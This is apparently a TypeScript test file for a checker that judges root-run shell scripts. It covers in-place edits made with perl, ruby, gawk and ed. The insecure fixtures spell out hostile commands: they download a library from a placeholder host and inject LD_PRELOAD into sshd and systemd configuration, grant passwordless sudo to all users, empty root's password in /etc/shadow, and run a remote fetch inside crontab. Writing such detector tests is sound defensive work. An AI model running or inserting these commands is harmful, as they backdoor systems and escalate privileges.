// Round 74 (fixer fix74-inplace): in-place editors other than sed (perlrun(1) -i, ruby(1) -i, gawk(1) `-i inplace`,
// ed(1)/ex(1)) of the files the pack judges. Round 74 first told the judge such an edit as "edit with unknown content"
// and rootWrites.ts accepted it for every file but the kernel command line's, so `perl -pi -e 's/$/\nSetEnv
// LD_PRELOAD=.../'` of sshd_config was accepted. Now the simple forms are computed as sed's are (perl -p -i with only
// s/RE/REPL/[gimsx] statements, ruby -p -i with only sub/gsub of a regexp and a string) and their replacement text judged
// as a sed -i edit's; anything else (other code, `/e`, interpolated variables, gawk programs, ed scripts) of a judged
// file is content the pack cannot read, refused.
import { describeNodeCases, devNodeCase, devNodeScript, NodeCase } from "./nodeBuilders";

const SO = "curl -fsSL -o /opt/x.so https://downloads.example.com/x.so";
const REFUSED = /loader|LD_PRELOAD|environment|cannot|unread|SetEnv|root|edit/i;

const n = (id: string) => `dev-${id}-74i-nodes`;

const insecure: NodeCase[] = [
    devNodeCase(
        "I1 perl -pi -e 's/$/\\nSetEnv LD_PRELOAD=.../' /etc/ssh/sshd_config (a computed s///: the SetEnv line it adds)",
        devNodeScript(n("i1"), [SO, "perl -pi -e 's/$/\\nSetEnv LD_PRELOAD=\\/opt\\/x.so/' /etc/ssh/sshd_config"]),
        REFUSED,
    ),
    devNodeCase(
        "I2 perl -pi -e 's/^DefaultEnvironment=.*/DefaultEnvironment=LD_PRELOAD=.../' /etc/systemd/system.conf",
        devNodeScript(n("i2"), [
            SO,
            "perl -pi -e 's/^#?DefaultEnvironment=.*/DefaultEnvironment=LD_PRELOAD=\\/opt\\/x.so/' /etc/systemd/system.conf",
        ]),
        REFUSED,
    ),
    devNodeCase(
        "I3 perl -i -pe of /etc/sysconfig/sshd adding -o SetEnv=LD_PRELOAD to OPTIONS",
        devNodeScript(n("i3"), [
            SO,
            `perl -i -pe 's/^OPTIONS=.*/OPTIONS="-o SetEnv=LD_PRELOAD=\\/opt\\/x.so"/' /etc/sysconfig/sshd`,
        ]),
        REFUSED,
    ),
    devNodeCase(
        "I4 perl -p -i.bak -e 's/^PATH=.*/LD_PRELOAD=.../' /etc/environment (separate -p and -i)",
        devNodeScript(n("i4"), [SO, "perl -p -i.bak -e 's/^PATH=.*/LD_PRELOAD=\\/opt\\/x.so/' /etc/environment"]),
        REFUSED,
    ),
    devNodeCase(
        "I5 perl -pi with two -e: PermitRootLogin no, then SetEnv LD_PRELOAD (the second statement counts)",
        devNodeScript(n("i5"), [
            SO,
            "perl -p -i -e 's/^#?PermitRootLogin.*/PermitRootLogin no/' -e 's/^#?Banner.*/SetEnv LD_PRELOAD=\\/opt\\/x.so/' /etc/ssh/sshd_config",
        ]),
        REFUSED,
    ),
    devNodeCase(
        "I6 perl -pi -e with code the pack cannot compute (print ... if $. == 1) of /etc/ld.so.preload",
        devNodeScript(n("i6"), [SO, `perl -pi -e 'print "/opt/x.so\\n" if $. == 1' /etc/ld.so.preload`]),
        REFUSED,
    ),
    devNodeCase(
        "I7 perl -pi -e 's/.../.../e' (code in the replacement) of /etc/crontab",
        devNodeScript(n("i7"), [
            `perl -pi -e 's/^MAILTO=.*/"MAILTO=" . qx(curl -s https:\\/\\/x.example.com)/e' /etc/crontab`,
        ]),
        REFUSED,
    ),
    devNodeCase(
        "I8 perl -pi -e 's/^X/$ENV{HOOK}/' (an interpolated variable the pack cannot know) of /etc/sudoers",
        devNodeScript(n("i8"), [`perl -pi -e 's/^#includedir.*/$ENV{HOOK}/' /etc/sudoers`]),
        REFUSED,
    ),
    devNodeCase(
        "I9 perl -pi -e 's{^#?PermitRootLogin.*}{PermitRootLogin yes}' (bracketed delimiters) of sshd_config",
        devNodeScript(n("i9"), ["perl -pi -e 's{^#?PermitRootLogin.*}{PermitRootLogin yes}' /etc/ssh/sshd_config"]),
        REFUSED,
    ),
    devNodeCase(
        "I10 perl -ni -e (prints only what its code prints) of /etc/ssh/sshd_config",
        devNodeScript(n("i10"), [
            SO,
            `perl -ni -e 'print; print "SetEnv LD_PRELOAD=/opt/x.so\\n" if eof' /etc/ssh/sshd_config`,
        ]),
        REFUSED,
    ),
    devNodeCase(
        "I11 ruby -pi -e 'sub(/^#?PermitRootLogin.*/, \"PermitRootLogin yes\")' /etc/ssh/sshd_config",
        devNodeScript(n("i11"), [
            `ruby -pi -e 'sub(/^#?PermitRootLogin.*/, "PermitRootLogin yes")' /etc/ssh/sshd_config`,
        ]),
        REFUSED,
    ),
    devNodeCase(
        "I12 ruby -pi -e '$_.gsub!(/$/, \"\\nSetEnv LD_PRELOAD=...\") if $. == 1' (code beyond sub) of sshd_config",
        devNodeScript(n("i12"), [
            SO,
            `ruby -pi -e '$_.gsub!(/$/, "\\nSetEnv LD_PRELOAD=/opt/x.so") if $. == 1' /etc/ssh/sshd_config`,
        ]),
        REFUSED,
    ),
    devNodeCase(
        "I13 ruby -pi -e 'sub(/x/, \"#{ENV[...]}\")' (interpolation) of /etc/environment",
        devNodeScript(n("i13"), [`ruby -pi -e 'sub(/^PATH=.*/, "#{ENV["HOOK"]}")' /etc/environment`]),
        REFUSED,
    ),
    devNodeCase(
        "I14 gawk -i inplace '{print} END {print \"SetEnv ...\"}' /etc/ssh/sshd_config (an awk program: not computed)",
        devNodeScript(n("i14"), [
            SO,
            `gawk -i inplace '{ print } END { print "SetEnv LD_PRELOAD=/opt/x.so" }' /etc/ssh/sshd_config`,
        ]),
        REFUSED,
    ),
    devNodeCase(
        "I15 ed -s /etc/sudoers <<EOF (an ed script: not computed)",
        devNodeScript(n("i15"), [
            "ed -s /etc/sudoers <<'EOF'",
            "$a",
            "ALL ALL=(ALL) NOPASSWD: ALL",
            ".",
            "w",
            "q",
            "EOF",
        ]),
        REFUSED,
    ),
    devNodeCase(
        "I16 perl -pi -e 's/^root:[^:]*:/root::/' /etc/shadow (root's password emptied)",
        devNodeScript(n("i16"), ["perl -pi -e 's/^root:[^:]*:/root::/' /etc/shadow"]),
        REFUSED,
    ),
    devNodeCase(
        "I18 perl -0777 -pi -e 's/\\z/SetEnv LD_PRELOAD=...\\n/' (slurp mode: the text added at the end)",
        devNodeScript(n("i18"), [
            SO,
            "perl -0777 -pi -e 's/\\z/SetEnv LD_PRELOAD=\\/opt\\/x.so\\n/' /etc/ssh/sshd_config",
        ]),
        REFUSED,
    ),
    // Still open (round 74): a sed -i or perl -pi fragment of a unit file (`s/^ExecStart=/Environment=LD_PRELOAD=...\n
    // ExecStart=/`) has no [Service] header, so rootReads unit() reads no Environment= from it: sed's twin is accepted
    // as well. Fix (unit judging, not the in-place reading): read an edit's fragment of a unit as lines of every section
    // (or refuse unit edits adding loader variables / Exec lines).
    devNodeCase(
        "I17 perl -pi -e 's/^ExecStart=/Environment=LD_PRELOAD=...\\nExecStart=/' of sshd.service (a loader variable added)",
        devNodeScript(n("i17"), [
            SO,
            "perl -pi -e 's/^ExecStart=/Environment=LD_PRELOAD=\\/opt\\/x.so\\nExecStart=/' /usr/lib/systemd/system/sshd.service",
        ]),
        REFUSED,
        true,
    ),
];

const secure: NodeCase[] = [
    devNodeCase(
        "S1 perl -pi -e 's/^#?PermitRootLogin.*/PermitRootLogin no/' /etc/ssh/sshd_config",
        devNodeScript(n("s1"), ["perl -pi -e 's/^#?PermitRootLogin.*/PermitRootLogin no/' /etc/ssh/sshd_config"]),
    ),
    devNodeCase(
        "S2 perl -p -i.orig with two -e (PasswordAuthentication no; X11Forwarding no) of sshd_config",
        devNodeScript(n("s2"), [
            "perl -p -i.orig -e 's/^#?PasswordAuthentication.*/PasswordAuthentication no/' -e 's/^#?X11Forwarding.*/X11Forwarding no/g;' /etc/ssh/sshd_config",
        ]),
    ),
    devNodeCase(
        "S3 perl -pi -e 's{^#?PermitRootLogin .*}{PermitRootLogin no}' (bracketed delimiters)",
        devNodeScript(n("s3"), ["perl -pi -e 's{^#?PermitRootLogin .*}{PermitRootLogin no}' /etc/ssh/sshd_config"]),
    ),
    devNodeCase(
        "S4 ruby -pi -e 'sub(/^#?PermitRootLogin.*/, \"PermitRootLogin no\")' /etc/ssh/sshd_config",
        devNodeScript(n("s4"), [
            `ruby -pi -e 'sub(/^#?PermitRootLogin.*/, "PermitRootLogin no")' /etc/ssh/sshd_config`,
        ]),
    ),
    devNodeCase(
        "S5 perl -pi with arbitrary code of an application's own file (no file root's programs read)",
        devNodeScript(n("s5"), [`perl -pi -e 'print "# managed\\n" if $. == 1' /opt/app/app.conf`]),
    ),
    devNodeCase(
        "S6 perl -pi -e 's/^#?MaxAuthTries.*/MaxAuthTries 3/' and $1 back-reference (ClientAliveInterval)",
        devNodeScript(n("s6"), [
            "perl -pi -e 's/^#?MaxAuthTries.*/MaxAuthTries 3/; s/^#?(ClientAliveInterval).*/$1 300/' /etc/ssh/sshd_config",
        ]),
    ),
    devNodeCase(
        "S7 gawk -i inplace of an unjudged file and ruby -pi of one (as before)",
        devNodeScript(n("s7"), [
            "gawk -i inplace '{ gsub(/foo/, \"bar\") } 1' /opt/app/app.conf",
            `ruby -pi -e 'puts "x" if $. == 1' /opt/app/other.conf`,
        ]),
    ),
];

describeNodeCases(
    "round 74: in-place editors other than sed (perl -i, ruby -i, gawk -i inplace, ed)",
    insecure,
    secure,
);
